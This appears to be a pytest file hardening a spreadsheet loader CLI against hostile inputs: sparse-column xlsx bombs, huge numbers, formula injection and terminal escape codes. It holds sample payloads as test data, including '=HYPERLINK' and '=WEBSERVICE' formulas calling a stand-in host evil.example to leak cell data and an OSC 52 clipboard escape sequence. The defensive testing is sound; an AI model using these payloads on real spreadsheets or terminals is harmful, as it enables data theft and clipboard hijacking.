"""Trust, second round (issue 28), for what files and the command line can do: bounded
spreadsheets, formulas that never run, erasure that knows an id however it is written,
terminal text that is only text."""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from core.errors import WorkbookError
from loader import read
from loader.annotate import annotated_workbook
from loader.read import Limits, read_workbook
from tests.conftest import run_smp
from tests.workbooks import MINIMAL, write_tables
from tests.workbooks import read_tables as read_csv

_PARTS = {
    "[Content_Types].xml": (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
        'package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/'
        'sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
        'worksheet+xml"/></Types>'
    ),
    "_rels/.rels": (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
        "</Relationships>"
    ),
    "xl/workbook.xml": (
        '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
        '2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships"><sheets><sheet name="people" sheetId="1" r:id="rId1"/></sheets>'
        "</workbook>"
    ),
    "xl/_rels/workbook.xml.rels": (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
        "</Relationships>"
    ),
}


def _sheet_xlsx(path: Path, rows: list[str], dimension: str = "A1:XFD20000") -> Path:
    """An .xlsx of one sheet "people" whose rows are given as XML."""
    sheet = (
        '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
        f'spreadsheetml/2006/main"><dimension ref="{dimension}"/><sheetData>'
        + "".join(rows) + "</sheetData></worksheet>"
    )  # fmt: skip
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in {**_PARTS, "xl/worksheets/sheet1.xml": sheet}.items():
            archive.writestr(name, text)
    return path


def _cell(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def test_a_sparse_spreadsheet_with_a_far_column_is_refused_at_once(tmp_path):
    rows = [f'<row r="{r}">{_cell(f"A{r}", "x")}{_cell(f"XFD{r}", "y")}</row>'
            for r in range(1, 20001)]  # fmt: skip
    bomb = _sheet_xlsx(tmp_path / "sparse.xlsx", rows)
    assert bomb.stat().st_size < 300_000  # small on disk; 327 million cells if padded
    with pytest.raises(WorkbookError) as refused:
        read_workbook(bomb)
    [problem] = refused.value.problems
    assert (problem.file, problem.row) == ("people", 1)
    assert "column 16,384 (XFD), beyond the limit of 1,000 columns" in problem.message
    result = run_smp("check", str(bomb))
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert "SMP_MAX_COLUMNS" in result.stderr


def test_rows_are_read_as_the_file_has_them_not_as_wide_as_the_sheet_claims(tmp_path):
    header = "".join(_cell(f"{c}1", n) for c, n in zip("ABC", ("person_id", "name", "email"),
                                                       strict=True))  # fmt: skip
    rows = [f'<row r="1">{header}</row>', f'<row r="3">{_cell("A3", "P-1")}{_cell("B3", "Ann")}'
            "</row>"]  # fmt: skip
    raw = read_workbook(_sheet_xlsx(tmp_path / "people.xlsx", rows, "A1:XFD1048576"))
    table = raw.tables["people"]
    assert table.header == ["person_id", "name", "email"]
    assert table.rows == [(3, ["P-1", "Ann"])]  # its own row number, two cells


def test_too_many_cells_are_refused_before_a_large_sheet_is_held(tmp_path, monkeypatch):
    monkeypatch.setattr(read, "COUNT_FIRST_BYTES", 0)  # count every sheet first
    lines = ["person_id,group_id,role"] + [f"P-{i},G-1,member" for i in range(5000)]
    with zipfile.ZipFile(tmp_path / "big.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("memberships.csv", "\n".join(lines))
    with pytest.raises(WorkbookError) as refused:
        read_workbook(tmp_path / "big.zip", Limits(cells=9000))
    [problem] = refused.value.problems
    assert problem.file == "memberships.csv" and "more than 9,000 cells" in problem.message
    assert problem.row == 3001  # the header and 3,000 rows: 9,003 cells


def test_a_number_of_400_digits_is_a_clear_problem(tmp_path):
    tables = read_csv(MINIMAL)
    tables["groups"][0]["meetings_per_year"] = "9" * 400
    result = run_smp("check", str(write_tables(tmp_path / "w", tables)))
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert "groups.csv:2: meetings_per_year:" in result.stderr
    assert "is too large (at most 9 digits)" in result.stderr


def test_the_marked_workbook_never_runs_a_formula(tmp_path):
    tables = read_csv(MINIMAL)
    tables["people"][0]["name"] = '=HYPERLINK("http://evil.example/?"&C3,"click")'
    tables["people"][1]["job"] = '=WEBSERVICE("http://evil.example")'
    tables["memberships"][0]["role"] = "boss"  # one problem, so there is something to mark
    folder = write_tables(tmp_path / "csv", tables)
    with pytest.raises(WorkbookError) as found:
        from loader.validate import load_workbook as validate

        validate(folder)
    for source in (folder, _as_xlsx(tables, tmp_path / "w.xlsx")):
        book = load_workbook(io.BytesIO(annotated_workbook(source, found.value.problems)))
        cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
        formulas = [c.coordinate for c in cells if c.data_type == "f"]
        assert not formulas, (source.name, formulas)
        texts = [c.value for c in cells if isinstance(c.value, str)]
        assert any(t.startswith("=HYPERLINK") for t in texts)  # kept, as text


def _as_xlsx(tables: dict, path: Path) -> Path:
    book = Workbook()
    book.remove(book.active)
    for name, rows in tables.items():
        sheet = book.create_sheet(name)
        columns = list(dict.fromkeys(k for row in rows for k in row))
        sheet.append(columns)
        for row in rows:
            sheet.append([row.get(c) for c in columns])  # a formula stays a formula here
    book.save(path)
    return path


@pytest.mark.neo4j
def test_erasure_knows_the_id_however_it_is_written(empty_db, tmp_path):
    assert run_smp("load", str(MINIMAL)).returncode == 0
    assert run_smp("forget", "P-003", "--yes").returncode == 0
    for number, written in enumerate(["p-003", "P-0003", " P- 003 "]):
        tables = read_csv(MINIMAL)
        for sheet in ("people", "memberships"):
            for row in tables[sheet]:
                if row["person_id"] == "P-003":
                    row["person_id"] = written
        again = run_smp("load", str(write_tables(tmp_path / str(number), tables)))
        assert again.returncode == 1, again.stdout
        assert f"person_id: {written.strip()!r} was erased (smp forget)" in again.stderr


@pytest.mark.neo4j
def test_a_person_with_an_erased_persons_name_and_email_is_warned_about(empty_db, tmp_path):
    tables = read_csv(MINIMAL)
    tables["people"][2]["email"] = "carys@example.org"  # P-003, Carys Pemberton
    assert run_smp("load", str(write_tables(tmp_path / "first", tables))).returncode == 0
    assert run_smp("forget", "P-003", "--yes").returncode == 0
    for sheet in ("people", "memberships"):
        for row in tables[sheet]:
            if row["person_id"] == "P-003":
                row["person_id"] = "VCS-77"
    loaded = run_smp("load", str(write_tables(tmp_path / "again", tables)))
    assert loaded.returncode == 0
    assert "people.csv:4: person_id: 'VCS-77' has the name and e-mail of a person erased" in (
        loaded.stderr
    )
    stored = json.dumps([r["p"] for r in empty_db.execute_query(
        "MATCH (e:SmpErased) RETURN properties(e) AS p").records], default=str)  # fmt: skip
    assert "carys" not in stored.lower() and "Pemberton" not in stored


@pytest.mark.neo4j
def test_terminal_escapes_in_names_are_not_printed(empty_db, tmp_path):
    assert run_smp("load", str(MINIMAL)).returncode == 0
    tables = read_csv(MINIMAL)
    tables["people"][0]["name"] = "Ada\x1b]52;c;ZXZpbA==\x07 Fenwick\x1b[2K"
    shown = run_smp("diff", str(write_tables(tmp_path / "esc", tables)))
    assert shown.returncode == 0, shown.stderr
    assert "\x1b" not in shown.stdout and "\x07" not in shown.stdout
    assert "Ada]52;c;ZXZpbA== Fenwick[2K" in shown.stdout  # shown as text, harmless


def test_a_rep_expectation_of_400_digits_is_refused_with_a_message(tmp_path):
    expectation = tmp_path / "expect.json"
    expectation.write_text('{"meetings": ' + "9" * 400 + "}")
    result = run_smp("analyse", "--rep-expectation", str(expectation))
    assert result.returncode != 0 and "Traceback" not in result.stderr
    assert "meetings must be whole numbers from 0 to 1,000" in result.stderr
